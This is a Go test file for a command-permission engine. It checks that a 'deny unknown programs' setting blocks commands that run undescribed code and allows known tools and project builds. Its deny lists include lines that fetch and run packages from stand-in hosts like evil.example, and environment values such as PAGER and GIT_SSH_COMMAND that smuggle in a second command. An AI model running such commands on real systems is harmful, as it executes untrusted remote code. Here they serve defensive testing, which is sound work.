package engine

import (
	"testing"

	"github.com/permd/permd/decisions"
)

// TestUnknownProgramsWithin checks that unknown_programs = "deny" denies a known program that runs
// an unknown one, even if the user allows all programs, and does not deny builders that run the
// project's code.
func TestUnknownProgramsWithin(t *testing.T) {
	w := newRestrictedWorld(t)
	w.write(".config/permd/policy.d/all.rego", `package permd.user

import rego.v2

allow contains {"reason": "all", "covers": ["unknown"]} if {
	input.effect.kind in {"run", "unknown", "connect", "read", "write", "delete", "state"}
}
`)
	w.write(".config/permd/policy.d/programs/mine.yaml", "programs:\n  - names: [mytool]\n    does: [\"looks\"]\n    readonly: true\n    operands: [\"text...\"]\n")
	w.write("etc/policy.d/rules.yaml", "allow:\n  run: [orgtool x, npx orgs *, python ok.py]\n")
	w.write("project/package.json", `{"scripts": {"frob": "frob", "test": "frob"}}`)
	w.write("project/Makefile", "check:\n\tfrob\n")
	w.set(`unknown_programs = "deny"`)
	for _, command := range []string{
		"frob", "npx frob", "npx -p frob eslint .", "npm exec frob", "npm create vite", "pnpm dlx frob", "pnpm frob2", "yarn dlx frob", "bunx frob", "uvx frob", "uv tool run frob", "uvx --from frob ruff check",
		"go run github.com/evil/x@latest", "docker run frob", "podman create frob", "sh ./tool.sh", "bash tool.sh", ". ./tool.sh", "source ./tool.sh", "python x.py", "python -m frob",
		"node x.js", "java -jar x.jar", "deno run x.ts", "bun x.ts", "uv run x.py", "cargo frob", "gh frob", "kubectl frob", "docker frob",
		"PATH=. ls", "PATH=/x:$PATH ls", "PATH+=:. ls", "PAGER=frob git log", "PAGER=sh git log", "PAGER='less; frob' git log", "GIT_SSH_COMMAND=frob git fetch", "GIT_SSH_COMMAND='ssh -oProxyCommand=frob' git fetch",
		"npx mytool x", "mytool x", "uvx mytool x", "npx frob@1", "npx tsc@5", "npx git@1", "npx eslint@npm:frob@1", "npx eslint@file:../x", "npx eslint@github:evil/x", "npx eslint@evil/x", "npx eslint@https://evil.example/x", "npx eslint@../x", "npx eslint@.", "npx eslint@x.tgz", "npx 'eslint@>=1'",
		"npx eslint@", "npx @evil/eslint@9", "npx -p frob eslint@9", "npm create eslint@9", "npm init eslint@9", "uvx frob@1", "uvx --from frob ruff@1", "uvx ruff@git+https://evil.example/x", "bunx frob@1", "go run eslint@9",
		"python -m http", "python -m frob.server", "python -m pdb x.py", "python -m cProfile x.py", "python -m timeit x", "python -m runpy", "python -m eslint", "npx http.server@1", "python -m black@1",
		"env PAGER=frob git log", "export PATH=.; ls", "EDITOR=frob; git commit", "make SHELL=frob", "make CC:=frob", "bash -c 'sh x.sh'", "timeout 5 npx frob",
	} {
		w.want("runs what nobody describes", shellCall(command), decisions.Deny, "unknown_programs")
	}
	for _, command := range []string{
		"ls", "npx eslint .", "npx orgs a", "python ok.py", "python -m pytest", "npx eslint@9 .", "npx --yes prettier@3 --write src", "npx eslint@latest", "npx eslint@^9.1", "npx prettier@3.0.0-beta.1", "bunx prettier@3 x", "pnpm dlx prettier@3 x", "npm exec eslint@9", "uvx ruff@0.6.1 check", "uv tool run black@24 x",
		"python -m http.server 8000", "python3 -m json.tool", "python -m venv x", "npm run frob", "npm test", "pnpm frob", "make check", "make V=1 check", "make CC=", "go run .", "go run ./cmd", "cargo run", "cargo build", "docker compose up",
		"kubectl get pods", "PAGER=less git log", "PAGER='less -R' git log", "PAGER= git log", "GIT_SSH_COMMAND=ssh git fetch", "FOO=frob ls", "git log",
	} {
		w.want("runs what is known, or the project", shellCall(command), decisions.Allow, "")
	}
}

// TestVersionsAreOtherPrograms checks that what allows a package without a version allows it with none,
// though both count as described.
func TestVersionsAreOtherPrograms(t *testing.T) {
	w := newRestrictedWorld(t)
	w.write(".config/permd/policy.d/rules.yaml", "allow:\n  run: [npx eslint *, npx --yes prettier *, eslint *, prettier *, uvx ruff *, ruff *, python -m json.tool, python -m pytest *]\n")
	w.set(`unknown_programs = "deny"`)
	for _, command := range []string{"npx eslint .", "npx --yes prettier x", "python -m json.tool"} {
		w.want("an entry names it", shellCall(command), decisions.Allow, "")
	}
	for _, command := range []string{
		"npx eslint@9 .", "npx eslint@latest .", "npx --yes prettier@3 x", "uvx ruff@0.6.1 check", "npm exec eslint@9 .", "bunx eslint@9 .", "python -m http.server", "python -m json.tool x.json",
	} {
		w.want("no entry names it", shellCall(command), decisions.Ask, "")
	}
}
